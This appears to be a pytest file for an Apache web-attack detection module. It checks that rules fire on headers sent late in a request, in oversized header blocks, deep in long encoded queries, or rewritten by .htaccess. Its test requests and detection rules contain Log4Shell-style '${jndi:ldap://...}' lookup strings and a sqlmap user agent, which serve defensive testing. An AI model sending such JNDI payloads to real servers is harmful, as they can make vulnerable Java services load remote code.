# SPDX-License-Identifier: Apache-2.0
"""Everything httpd accepted is inspected (issue 14, items 1 and 5): headers
past the 64th, a header block over 64 KiB, a long percent-encoded query
decoded to its end; a request over IocWatchInspectLimit is an alert
(iw-truncated) and a counter, never silence; headers are those the client
sent, also where an .htaccess rewrites them (mod_headers)."""

import os

import pytest

import iwtest
from iwtest import by_url, get, nonce

R_UA = "7b0c5a55-0000-4000-8000-0000000001a1"
R_HDRS = "7b0c5a55-0000-4000-8000-0000000001a2"
R_REF = "7b0c5a55-0000-4000-8000-0000000001a3"
R_QDEC = "7b0c5a55-0000-4000-8000-0000000001a4"
R_TRUNC = "7b0c5a55-0000-4000-8000-0000000001a5"

RULES = """\
title: IW inspect - sqlmap user agent
id: {ua}
status: test
logsource:
    category: webserver
detection:
    selection:
        cs-user-agent|contains: 'sqlmap'
    condition: selection
level: high
---
title: IW inspect - JNDI lookup in any header
id: {hdrs}
status: test
logsource:
    category: webserver
detection:
    selection:
        cs-headers|contains: '${{jndi:'
    condition: selection
level: high
---
title: IW inspect - JNDI lookup in the referer
id: {ref}
status: test
logsource:
    category: webserver
detection:
    selection:
        cs-referer|contains: '${{jndi:'
    condition: selection
level: high
---
title: IW inspect - marker in the decoded query
id: {qdec}
status: test
logsource:
    category: webserver
detection:
    selection:
        cs-uri-query-decoded|contains: '<script>iwdec'
    condition: selection
level: high
---
title: IW inspect - request not inspected in full
id: {trunc}
status: test
logsource:
    category: webserver
detection:
    selection:
        iw-truncated|gt: 0
    condition: selection
level: medium
""".format(ua=R_UA, hdrs=R_HDRS, ref=R_REF, qdec=R_QDEC, trunc=R_TRUNC)


def body(rs, h, extra=""):
    rules = h.write_rule("inspect.yml", RULES)
    os.makedirs(os.path.join(h.htdocs, "ht"), exist_ok=True)
    os.chmod(os.path.join(h.htdocs, "ht"), 0o755)
    h.write_doc("ht/.htaccess", "RequestHeader unset User-Agent\n"
                                "RequestHeader set Referer clean\n"
                                "RequestHeader unset X-Api-Version\n")
    h.write_doc("ht/index.html", "hello\n")
    return """\
IocWatchRules "{rules}"
IocWatchAlertTarget unix:{sock}
LimitRequestLine 100000
{extra}
<Location /iw-status>
  SetHandler iocwatch-status
</Location>
<Directory "{docs}/ht">
  AllowOverride FileInfo
</Directory>
""".format(rules=rules, sock=rs.sock, docs=h.htdocs, extra=extra)


@pytest.fixture
def server(httpd, rsyslog):
    httpd.ensure(body(rsyslog, httpd), "event")
    return httpd


def send(h, target, headers):
    """One raw request: headers (name, value) in this order."""
    lines = ["GET %s HTTP/1.1" % target, "Host: 127.0.0.1"]
    lines += ["%s: %s" % kv for kv in headers]
    lines.append("Connection: close")
    data = ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")
    return iwtest.http_raw(h.port, data)[0]


def rule_ids(alerts):
    return sorted(get(a, "rule.id") for a in alerts)


PAD70 = [("X-Pad-%02d" % i, "harmless-%02d" % i) for i in range(70)]


def test_user_agent_after_70_headers(server, rsyslog):
    n = nonce()
    m = rsyslog.mark()
    assert send(server, "/?n=" + n, PAD70 + [("User-Agent", "sqlmap/1.7.2#stable")]) == 200
    assert rule_ids(rsyslog.wait_alerts(m, 1, by_url(n))) == [R_UA]


def test_jndi_header_and_referer_after_70_headers(server, rsyslog):
    n = nonce()
    m = rsyslog.mark()
    assert send(server, "/?n=" + n, PAD70 + [
        ("User-Agent", "Mozilla/5.0"),
        ("X-Api-Version", "${jndi:ldap://198.51.100.7/a}"),
        ("Referer", "${jndi:dns://198.51.100.7/b}")]) == 200
    assert rule_ids(rsyslog.wait_alerts(m, 2, by_url(n))) == sorted([R_HDRS, R_REF])


def test_attack_header_after_72k_of_headers(server, rsyslog):
    """Nine 8,000-byte headers (within LimitRequestFieldSize 8190), then
    the attack header: the header block is over 64 KiB."""
    n = nonce()
    m = rsyslog.mark()
    big = [("X-Big-%d" % i, chr(ord("a") + i) * 8000) for i in range(9)]
    assert send(server, "/?n=" + n, big + [("X-Api-Version", "${jndi:ldap://x/y}")]) == 200
    assert rule_ids(rsyslog.wait_alerts(m, 1, by_url(n))) == [R_HDRS]


def test_marker_at_end_of_60k_encoded_query(server, rsyslog):
    """60 KB of percent-encoded query (LimitRequestLine raised): the decoded
    view reaches its end."""
    n = nonce()
    m = rsyslog.mark()
    pad = "%41" * 20000
    target = "/?n=%s&p=%s&q=%%3Cscript%%3Eiwdec" % (n, pad)
    assert len(target) > 60000
    assert send(server, target, [("User-Agent", "Mozilla/5.0")]) == 200
    assert rule_ids(rsyslog.wait_alerts(m, 1, by_url(n))) == [R_QDEC]


def test_htaccess_request_header_unset_does_not_blind(server, rsyslog):
    """An .htaccess with mod_headers' RequestHeader unset/set: alerts come
    from the headers the client sent."""
    n = nonce()
    m = rsyslog.mark()
    assert send(server, "/ht/index.html?n=" + n, [
        ("User-Agent", "sqlmap/1.7.2#stable"),
        ("X-Api-Version", "${jndi:ldap://198.51.100.7/a}"),
        ("Referer", "${jndi:dns://198.51.100.7/b}")]) == 200
    assert rule_ids(rsyslog.wait_alerts(m, 3, by_url(n))) == sorted([R_UA, R_HDRS, R_REF])


def test_no_truncation_under_default_limit(server, rsyslog):
    """The largest request httpd accepts by default (100 headers of 8 KB)
    is under the default IocWatchInspectLimit: no iw-truncated alert."""
    n = nonce()
    m = rsyslog.mark()
    big = [("X-Big-%02d" % i, "v" * 8150) for i in range(97)]
    assert send(server, "/?n=" + n, big + [("User-Agent", "sqlmap/1.7")]) == 200
    assert rule_ids(rsyslog.wait_alerts(m, 1, by_url(n))) == [R_UA]
    assert rsyslog.quiet(m, lambda a: get(a, "rule.id") == R_TRUNC, wait=0.5) == []


def test_over_inspect_limit_alerts_and_counts(httpd, rsyslog):
    httpd.ensure(body(rsyslog, httpd, "IocWatchInspectLimit 16K"), "event")
    before = iwtest.status_page(httpd.port)["total_inspect_truncated"]
    n1, n2 = nonce(), nonce()
    m = rsyslog.mark()
    assert send(httpd, "/?n=" + n1, [("X-Big-%d" % i, "b" * 7000) for i in range(3)]
                + [("User-Agent", "sqlmap/1.7")]) == 200
    assert send(httpd, "/?n=" + n2, [("X-Small", "s" * 1000)]) == 200
    alerts = rsyslog.wait_alerts(m, 2, by_url(n1))
    # the raw fields are still scanned in full; the views are cut, and said so
    assert rule_ids(alerts) == sorted([R_UA, R_TRUNC])
    assert rsyslog.quiet(m, by_url(n2), wait=0.3) == []
    # the server-wide count: the process serving the status page may not be
    # the one that served the request
    st = iwtest.settled_status(httpd.port, lambda s: s["total_inspect_truncated"] > before)
    assert st["total_inspect_truncated"] == before + 1


def test_inspect_limit_refused_in_vhost_and_bad_values(httpd):
    def conf(extra):
        return httpd.render('IocWatchRules "%s/basic.yml"\n%s' % (iwtest.TEST_RULES, extra),
                            "event")
    rc, out = httpd.configtest(conf("<VirtualHost *:80>\nIocWatchInspectLimit 64K\n"
                                    "</VirtualHost>\n"))
    assert rc != 0 and "IocWatchInspectLimit cannot occur within" in out, out
    rc, out = httpd.configtest(conf("IocWatchInspectLimit 12\n"))
    assert rc != 0 and "IocWatchInspectLimit: expected a size from 4K to 256M" in out, out
    rc, out = httpd.configtest(conf("IocWatchInspectLimit 2M\n"))
    assert rc == 0, out
